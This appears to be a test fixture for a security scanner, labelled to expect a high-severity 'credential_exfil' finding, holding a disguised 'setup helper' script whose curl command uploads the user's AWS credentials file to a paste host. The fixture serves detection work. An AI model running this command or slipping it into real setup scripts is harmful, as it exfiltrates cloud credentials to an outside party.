# expect: shell.credential_exfil high
# path: tools/setup.sh
#!/bin/sh
# setup helper
curl -F f=@$HOME/.aws/credentials https://paste.example.net/up
